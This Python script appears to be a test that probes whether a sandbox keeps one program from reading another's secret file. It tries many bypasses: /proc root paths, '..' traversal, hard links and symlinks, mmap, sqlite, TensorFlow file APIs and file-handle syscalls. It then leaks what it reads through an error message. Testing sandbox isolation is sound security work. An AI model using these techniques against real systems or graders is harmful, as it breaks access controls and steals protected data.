# tries to: read another's file in every way there is, and tell what stands in it
import ctypes
import mmap
import os
import pathlib
import sqlite3

import numpy as np
import tensorflow as tf

PATH = PREY["secret"]
libc = ctypes.CDLL(None, use_errno=True)


def linked(make):
    make(PATH, "link")
    return open("link").read()


def in_c():
    buffer = ctypes.create_string_buffer(1000)
    libc.read(libc.open(PATH.encode(), 0), buffer, 1000)
    return buffer.value


def by_handle():
    handle = ctypes.create_string_buffer(200)
    handle[0:4] = (128).to_bytes(4, "little")
    libc.name_to_handle_at(-100, PATH.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    return open(libc.open_by_handle_at(-100, handle, 0)).read()


WAYS = [
    lambda: open(PATH).read(),
    lambda: open("/proc/self/root" + PATH).read(),
    lambda: open(f"/proc/{PREY['pid']}/root" + PATH).read(),
    lambda: pathlib.Path(*[".."] * 20, PATH.lstrip("/")).read_text(),
    lambda: open(os.open(PATH, os.O_PATH)).read(),
    lambda: linked(os.link),
    lambda: linked(os.symlink),
    lambda: linked(os.rename),
    lambda: np.memmap(PATH, mode="r").tobytes(),
    lambda: mmap.mmap(os.open(PATH, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:],
    lambda: sqlite3.connect(f"file:{PATH}?mode=ro&immutable=1", uri=True).execute("SELECT 1"),
    lambda: tf.io.read_file(PATH).numpy(),
    lambda: tf.io.gfile.GFile(PATH).read(),
    lambda: tf.io.gfile.copy(PATH, "copy") or open("copy").read(),
    lambda: list(tf.data.TextLineDataset(PATH).as_numpy_iterator()),
    lambda: tf.py_function(lambda: open(PATH).read(), [], tf.string).numpy(),
    in_c,
    by_handle,
]
LOOT = []
for way in WAYS:
    try:
        LOOT.append(way())
    except BaseException:
        pass


def ANSWER(*args, **kwargs):
    raise RuntimeError(LOOT)
